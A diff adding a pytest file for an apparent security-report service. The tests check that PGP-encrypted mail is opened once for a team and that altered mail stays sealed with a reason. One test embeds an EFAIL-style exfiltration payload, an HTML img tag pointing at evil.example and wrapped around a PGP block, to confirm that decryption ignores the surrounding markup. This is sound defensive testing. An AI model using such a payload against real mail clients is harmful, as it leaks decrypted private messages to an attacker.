@@ -1,0 +1,85 @@
+# SPDX-License-Identifier: Apache-2.0
+"""What was encrypted to the team: opened once, in memory, for the case and not for one person."""
+
+from __future__ import annotations
+
+from collections.abc import Sequence
+from dataclasses import dataclass, field, replace
+
+import pytest
+
+from tests.mail import post
+from tocsin.core.vocabulary import Refused
+from tocsin.services import cases
+from tocsin.services.ports.openpgp import Opened
+from tocsin.testing.house import House, house
+
+WRAPPED = (
+    'Content-Type: multipart/encrypted; boundary="b"; protocol="application/pgp-encrypted"\r\n\r\n--b\r\n'
+    "Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--b\r\nContent-Type: application/octet-stream\r\n\r\n"
+    "-----BEGIN PGP MESSAGE-----\r\n\r\nhere it is\r\n-----END PGP MESSAGE-----\r\n--b--\r\n"
+)
+HEAD = f"From: Ann <ann@example.net>\r\nTo: {post.BOX}\r\nSubject: ...\r\nMessage-ID: <s@e>\r\n"
+INSIDE = b"Content-Type: text/plain\r\nSubject: The real subject\r\n\r\nThe real words."
+
+
+@dataclass
+class Keys:
+    """A key holder that has the team's key."""
+
+    answer: Opened | Refused
+    asked: list[bytes] = field(default_factory=list)
+
+    def open(
+        self, project: str, ciphertext: bytes, known: Sequence[bytes] = (), purpose: str = "mail.open"
+    ) -> Opened | Refused:
+        self.asked.append(ciphertext)
+        return self.answer
+
+
+@pytest.fixture
+def home() -> House:
+    return house()
+
+
+def holding(home: House, answer: Opened | Refused) -> Keys:
+    keys = Keys(answer)
+    assert home.desk.mail
+    home.desk = replace(home.desk, mail=replace(home.desk.mail, keys=keys))
+    return keys
+
+
+def test_what_was_encrypted_to_the_team_is_opened_once_and_read_by_every_member(home: House) -> None:
+    keys = holding(home, Opened(plain=INSIDE))
+    post.deliver(home, (HEAD + WRAPPED).encode())
+    (ref,) = post.refs(home)
+    for person in (home.dana, home.li):
+        actor = home.desk.people.actor(person, post.PROJECT)
+        assert actor
+        opened = cases.open_case(home.desk, ref, actor, "case.read")
+        assert opened
+        assert opened.case.title == "The real subject"
+        assert opened.case.report.reproduce == "The real words."
+        assert opened.case.report.letter
+        assert opened.case.report.letter.opened
+    assert len(keys.asked) == 1
+    assert keys.asked[0].startswith(b"-----BEGIN PGP MESSAGE-----")
+
+
+def test_armour_in_the_text_is_opened_alone_and_joined_with_nothing_around_it(home: House) -> None:
+    holding(home, Opened(plain=b"Just words, no header."))
+    text = "<img src='http://evil.example/?\n-----BEGIN PGP MESSAGE-----\n\nabc\n-----END PGP MESSAGE-----\n'>"
+    post.deliver(home, post.mail(text))
+    (ref,) = post.refs(home)
+    report = post.look(home, ref).case.report
+    assert report.reproduce == "Just words, no header."
+
+
+def test_what_cannot_be_opened_is_kept_sealed_with_the_reason(home: House) -> None:
+    holding(home, Refused(code="unreadable", because="The message was altered.", rule="RFC 9580"))
+    post.deliver(home, (HEAD + WRAPPED).encode())
+    (ref,) = post.refs(home)
+    report = post.look(home, ref).case.report
+    assert "not opened: The message was altered." in report.reproduce
+    assert report.letter
+    assert report.letter.raw
